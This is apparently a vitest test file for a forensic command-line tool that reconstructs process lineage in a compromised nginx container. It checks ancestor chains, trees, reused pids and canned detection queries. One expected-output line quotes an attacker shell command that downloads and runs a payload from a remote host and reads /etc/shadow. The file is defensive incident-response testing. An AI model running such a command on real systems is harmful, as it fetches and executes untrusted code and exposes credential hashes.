import { beforeAll, afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/run-cli.js';
import { tempDir } from '../support/temp-case.js';

const STORY = new URL('../../samples/story.jsonl', import.meta.url).pathname;
const tmp = tempDir();
const db = tmp.path('story.db');
const cli = (...args: string[]) => runCli([...args, '--db', db]);

beforeAll(() => {
  const r = runCli(['import', STORY, '--db', db]);
  if (r.code !== 0) throw new Error(r.stderr);
});
afterAll(() => tmp.cleanup());

describe('lineage commands on the story sample', () => {
  it('ancestors of the cat /etc/shadow exec names the chain and the container', () => {
    const r = cli('ancestors', '--pid', '4004');
    expect(r.code).toBe(0);
    expect(r.stdout.split('\n').slice(0, 2)).toEqual([
      'cat ← sh ← nginx ← nginx ← containerd-shim ← systemd',
      '  in container nginx (3f9a1c0e2b7d), pod nginx-test',
    ]);
  });

  it('ancestors --json gives depth, pid and name per step', () => {
    const r = cli('ancestors', '--pid', '4005', '--json');
    const steps = JSON.parse(r.stdout) as { depth: number; pid: number; name: string }[];
    // the payload ran after its shell exited: the shell is still its parent
    expect(steps.map((s) => [s.depth, s.pid, s.name])).toEqual([
      [0, 4005, 'x'],
      [1, 4001, 'sh'],
      [2, 2351, 'nginx'],
      [3, 2330, 'nginx'],
      [4, 2301, 'containerd-shim'],
      [5, 1, 'systemd'],
    ]);
  });

  it('refuses an ambiguous reused pid and resolves it with --at', () => {
    const ambiguous = cli('ancestors', '--pid', '3105');
    expect(ambiguous.code).toBe(2);
    expect(ambiguous.stderr).toContain('pid 3105 names 2 processes (the pid was reused)');
    const early = JSON.parse(cli('ancestors', '--pid', '3105', '--at', '2024-11-28T13:20:06.004Z', '--json').stdout) as { name: string }[];
    const late = JSON.parse(cli('ancestors', '--pid', '3105', '--at', '2024-11-28T13:20:19.426Z', '--json').stdout) as { name: string }[];
    expect(early[0]?.name).toBe('ls');
    expect(late[0]?.name).toBe('cat');
  });

  it('tree --container draws the pod subtree with exit status', () => {
    const r = cli('tree', '--container', '3f9a1c0e2b7d');
    const lines = r.stdout
      .trimEnd()
      .split('\n')
      .map((l) => l.replace(/, \d{4}-\d\d-\d\dT\d\d:\d\d:.*\]$/, ']'));
    expect(lines[0]).toBe('nginx,2330  [running]');
    expect(lines).toContain(
      '│   └── sh,4001 -c curl -s -o /tmp/x http://203.0.113.7/x; wget -q -O /tmp/y http://203.0.113.7/y; cat /etc/shadow; /tmp/x &  [exit 0]',
    );
    expect(lines).toContain('│       ├── cat,4004 /etc/shadow  [exit 1]');
    expect(lines).toContain('│       └── x,4005  [killed by signal 9]');
  });

  it('descendants of the shell lists its subtree with depths', () => {
    const r = cli('descendants', '--pid', '4001', '--csv');
    const rows = r.stdout
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => l.split(',').slice(0, 6));
    expect(rows.map((c) => [c[0], c[4], c[5]])).toEqual([
      ['0', '4001', 'sh'],
      ['1', '4002', 'curl'],
      ['1', '4003', 'wget'],
      ['1', '4004', 'cat'],
      ['1', '4005', 'x'],
    ]);
  });

  it('execs -p prints Falco-shaped lines, <NA> with a leading *, and drops incomplete lines without it', () => {
    const withNa = cli('execs', '-p', '*%proc.pid %proc.name %proc.pname %proc.aname[3] %container.name %container.image %evt.res');
    expect(withNa.stdout.split('\n')).toContain('4004 cat sh nginx nginx docker.io/library/nginx:latest SUCCESS');
    expect(withNa.stdout.split('\n')).toContain('3105 ls bash systemd host <NA> SUCCESS');
    expect(withNa.stdout.split('\n')).toContain('4003 sh sh nginx nginx docker.io/library/nginx:latest ENOENT');
    const without = cli('execs', '-p', '%proc.pid %container.image');
    expect(
      without.stdout
        .trim()
        .split('\n')
        .every((l) => l.endsWith('docker.io/library/nginx:latest')),
    ).toBe(true);
  });

  it('query runs read-only and refuses writes', () => {
    const ok = cli('query', 'SELECT name FROM spawned_execs WHERE container_id IS NOT NULL AND res = 0 ORDER BY ts_ns', '--json');
    expect((JSON.parse(ok.stdout) as { name: string }[]).map((r) => r.name)).toEqual(['sh', 'curl', 'wget', 'cat', 'x']);
    const write = cli('query', 'DELETE FROM execs');
    expect(write.code).toBe(65);
    expect(write.stderr).toContain('read-only');
  });

  it('canned queries answer the seed question and the parent-exited-first question', () => {
    const shells = JSON.parse(cli('queries', 'run', 'shells-spawned-in-containers', '--json').stdout) as Record<string, unknown>[];
    expect(shells.map((r) => [r.pid, r.name, r.parent_name, r.pod_name])).toEqual([[4001, 'sh', 'nginx', 'nginx-test']]);
    const orphans = JSON.parse(cli('queries', 'run', 'parent-exited-first', '--json').stdout) as Record<string, unknown>[];
    expect(orphans.map((r) => [r.pid, r.name, r.parent_name])).toEqual([[4005, 'x', 'sh']]);
    const tmpExecs = JSON.parse(cli('queries', 'run', 'execs-from-tmp', '--json').stdout) as Record<string, unknown>[];
    expect(tmpExecs.map((r) => r.path)).toEqual(['/tmp/x']);
    const missing = cli('queries', 'run', 'ancestors');
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('needs --param exec_id=VALUE');
  });

  it('a missing case database is a clear error, not a new empty file', () => {
    const r = runCli(['ps', '--db', tmp.path('nope.db')]);
    expect(r.code).toBe(66);
    expect(r.stderr).toContain('no case database at');
  });
});
